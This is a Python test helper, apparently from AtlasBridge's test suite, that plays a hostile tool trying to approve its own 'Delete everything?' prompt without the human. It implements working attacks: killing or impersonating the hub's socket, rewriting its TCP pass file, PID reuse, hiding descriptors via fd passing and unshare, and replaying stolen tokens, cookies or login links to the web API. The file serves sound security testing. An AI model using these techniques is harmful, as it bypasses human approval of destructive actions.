"""A tool that asks, and attacks from inside its session: `python hostile_tool.py ATTACK HOME FOLDER`.

It leaves a child that carries the attack out, asks "Delete everything? [y/N]", and writes what was answered to
FOLDER/answered.  The child writes what came of the attack to FOLDER/done.
"""

from __future__ import annotations

import ctypes
import json
import os
import signal
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any


def main() -> None:
    attack, home, folder = sys.argv[1], Path(sys.argv[2]), Path(sys.argv[3])
    if os.fork() == 0:
        os.setsid()
        came = ATTACKS[attack](home, folder)
        write(folder / "done", json.dumps(came))
        return
    print("Delete everything? [y/N] ", end="", flush=True)
    write(folder / "answered", sys.stdin.readline().strip())


def write(path: Path, text: str) -> None:
    draft = path.with_suffix(".draft")
    draft.write_text(text)
    draft.rename(path)


def ask(home: Path, message: dict[str, Any]) -> dict[str, Any]:
    """At the hub's own socket, without asking who listens: an attacker does not care."""
    with socket.socket(socket.AF_UNIX) as link:
        link.settimeout(20)
        link.connect(str(home / "hub.sock"))
        link.sendall(json.dumps(message).encode() + b"\n")
        return dict(json.loads(link.makefile().readline()))


def wait_for_prompt(home: Path) -> dict[str, Any]:
    while not (found := ask(home, {"op": "prompts"})["prompts"]):
        time.sleep(0.05)
    return dict(found[0])


def hub_pid(home: Path) -> int:
    return int((home / "hub.lock").read_text())


def false_hub(home: Path, folder: Path, kill: bool = True) -> list[Any]:
    """Take the hub's place and order keys from every host that comes; what was heard is what they said."""
    wait_for_prompt(home)
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(str(folder / "own.sock"))
    listener.listen(64)
    if kill:
        os.kill(hub_pid(home), signal.SIGKILL)
    os.rename(folder / "own.sock", home / "hub.sock")
    (folder / "taken").touch()
    listener.settimeout(4)
    heard: list[Any] = []
    try:
        while True:
            link, _ = listener.accept()
            link.settimeout(0.5)
            try:
                link.sendall(b'{"m":"welcome"}\n{"m":"keys","data":"y\\r"}\n')
                heard.append(link.recv(65536).decode("utf-8", "replace")[:200])
            except OSError:
                heard.append("")
    except TimeoutError:
        return [said for said in heard if said]


def false_hub_beside(home: Path, folder: Path) -> list[Any]:
    return false_hub(home, folder, kill=False)


def false_key(home: Path, folder: Path) -> list[Any]:
    """The same for a hub at a port: its file is replaced by one that leads to us."""
    from atlasbridge.core.hub_connection import Pass, answer_loopback, new_key, write_pass

    while not list(home.glob("sessions/*.sock")):
        time.sleep(0.05)
    listener = socket.create_server(("127.0.0.1", 0))
    issued = Pass(listener.getsockname()[1], new_key())
    os.kill(hub_pid(home), signal.SIGKILL)
    write_pass(home / "hub.tcp", issued)
    (folder / "taken").touch()
    listener.settimeout(4)
    heard: list[Any] = []
    try:
        while True:
            link, _ = listener.accept()
            try:
                if answer_loopback(link, issued, 0.5):
                    link.settimeout(0.5)
                    link.sendall(b'{"m":"welcome"}\n{"m":"keys","data":"y\\r"}\n')
                    heard.append(link.recv(65536).decode("utf-8", "replace")[:200])
            except OSError:
                continue
    except TimeoutError:
        return [said for said in heard if said]


def leave_a_number(home: Path, folder: Path) -> dict[str, Any]:
    """Stop the hub, send a reply, die; whoever gets the number afterwards would be taken for us."""
    prompt = wait_for_prompt(home)
    os.kill(hub_pid(home), signal.SIGSTOP)
    ours, theirs = socket.socketpair()
    sender = os.fork()
    if sender == 0:
        link = socket.socket(socket.AF_UNIX)
        link.connect(str(home / "hub.sock"))
        link.sendall(json.dumps({"op": "reply", "prompt_id": prompt["prompt_id"], "value": "y"}).encode() + b"\n")
        socket.send_fds(theirs, [b"."], [link.fileno()])
        os._exit(0)
    _, fds, _, _ = socket.recv_fds(ours, 1, 1)
    os.waitpid(sender, 0)
    write(folder / "number", str(sender))
    while not (folder / "reused").exists():
        time.sleep(0.02)
    os.kill(hub_pid(home), signal.SIGCONT)
    with socket.socket(fileno=fds[0]) as link:
        link.settimeout(20)
        return dict(json.loads(link.makefile().readline()))


def without_a_mark(home: Path, folder: Path) -> Any:
    """Nobody's child, with an empty environment, in a session that this hub was never told of."""
    if os.fork():
        signal.pause()
    os.setsid()
    if os.fork():
        os._exit(0)
    program = (
        "import json,socket,sys,time; time.sleep(0.5); l=socket.socket(socket.AF_UNIX); l.connect(sys.argv[1]);"
        "l.sendall(sys.argv[2].encode()+b'\\n'); d=open(sys.argv[3]+'.draft','w');"
        "d.write(l.makefile().readline()); d.close(); import os; os.rename(sys.argv[3]+'.draft', sys.argv[3])"
    )
    words = json.dumps({"op": "reply", "prompt_id": wait_for_prompt(home)["prompt_id"], "value": "y"})
    arguments = [sys.executable, "-c", program, str(home / "hub.sock"), words, str(folder / "done")]
    os.execve(sys.executable, arguments, {})


def own_hub(home: Path, folder: Path) -> Any:
    """Kill the hub and start the real one ourselves: it would do what we say, being ours to trace."""
    wait_for_prompt(home)
    os.kill(hub_pid(home), signal.SIGKILL)
    command = [sys.executable, "-m", "atlasbridge.core.daemon", "--foreground"]
    environ = {name: value for name, value in os.environ.items() if name != "ATLASBRIDGE_SESSION"}
    mine = subprocess.Popen(command, env={**environ, "ATLASBRIDGE_HOME": str(home)}, stderr=subprocess.PIPE, text=True)
    _, said = mine.communicate(timeout=30)
    return {"status": mine.returncode, "said": said}


def page_login(home: Path, folder: Path) -> Any:
    """A one-time link that the tool has seen: on a command line, on a screen, in a browser's history."""
    import httpx
    from tests.support.page_client import API, NOBODY, LinkLogin

    wait_for_prompt(home)
    login = LinkLogin(read(folder / "link"))
    with httpx.Client(base_url=json.loads((home / "web.json").read_text())["url"]) as client:
        greeted = client.get(f"{API}/hello", params=login.greeting).json()
        answer = client.post(f"{API}/login", json=login.body(greeted), auth=NOBODY)
    return [answer.status_code, answer.json()]


def page_cookie(home: Path, folder: Path) -> Any:
    """Cookie and key of a browser, from its profile."""
    return send_reply(home, folder, connect_page(home))


def connect_page(home: Path) -> socket.socket:
    return socket.create_connection(("127.0.0.1", json.loads((home / "web.json").read_text())["port"]), 20)


def page_socket(home: Path, folder: Path) -> Any:
    """The same by the socket that is there for tunnels."""
    link = socket.socket(socket.AF_UNIX)
    link.settimeout(20)
    link.connect(str(home / "web.sock"))
    return send_reply(home, folder, link)


def page_in_flight(home: Path, folder: Path) -> Any:
    """The connection's descriptor is on its way between two sockets of ours while the hub looks who has it."""
    ours, theirs = socket.socketpair()

    def hide(link: socket.socket) -> socket.socket:
        socket.send_fds(ours, [b"."], [link.fileno()])
        link.close()
        time.sleep(2.0)  # the hub looks meanwhile
        _, fds, _, _ = socket.recv_fds(theirs, 1, 1)
        return socket.socket(fileno=fds[0])

    return send_reply(home, folder, connect_page(home), hide)


def page_thread(home: Path, folder: Path) -> Any:
    """In a thread that has a table of files of its own."""
    came: list[Any] = []

    def attack() -> None:
        unshare = ctypes.CDLL(None, use_errno=True).unshare
        assert unshare(0x400) == 0  # CLONE_FILES
        came.append(send_reply(home, folder, connect_page(home)))

    thread = threading.Thread(target=attack)
    thread.start()
    thread.join()
    return came[0]


def send_reply(
    home: Path, folder: Path, link: socket.socket, hide: Callable[[socket.socket], socket.socket] = lambda link: link
) -> Any:
    """With whatever of a person's the folder has: a token, or a cookie and its key."""
    prompt = wait_for_prompt(home)
    target = f"/api/v1/prompts/{prompt['prompt_id']}/reply"
    body = json.dumps({"value": "y", "request_key": "0123456789abcdef"}).encode()
    head = f"POST {target} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
    head += f"Content-Length: {len(body)}\r\nConnection: close\r\n"
    found = json.loads(read(folder / "found"))
    if "token" in found:
        head += f"Authorization: Bearer {found['token']}\r\n"
    else:
        from tests.support.page_client import Signed

        signed = Signed(found["login_id"], bytes.fromhex(found["key"]), found["epoch"])
        head += f"Cookie: {found['cookie']}\r\nX-AtlasBridge-Proof: {signed.header('POST', target, body)}\r\n"
    link.sendall(head.encode() + b"\r\n" + body)
    link = hide(link)
    said = b""
    while more := link.recv(65536):
        said += more
    first, _, rest = said.partition(b"\r\n\r\n")
    return [int(first.split()[1]), json.loads(rest)]


def read(path: Path) -> str:
    while not path.exists():
        time.sleep(0.02)
    return path.read_text()


ATTACKS = {
    "false hub": false_hub,
    "false hub beside": false_hub_beside,
    "false key": false_key,
    "number": leave_a_number,
    "without a mark": without_a_mark,
    "own hub": own_hub,
    "login": page_login,
    "cookie": page_cookie,
    "page socket": page_socket,
    "in flight": page_in_flight,
    "thread": page_thread,
}

if __name__ == "__main__":
    main()
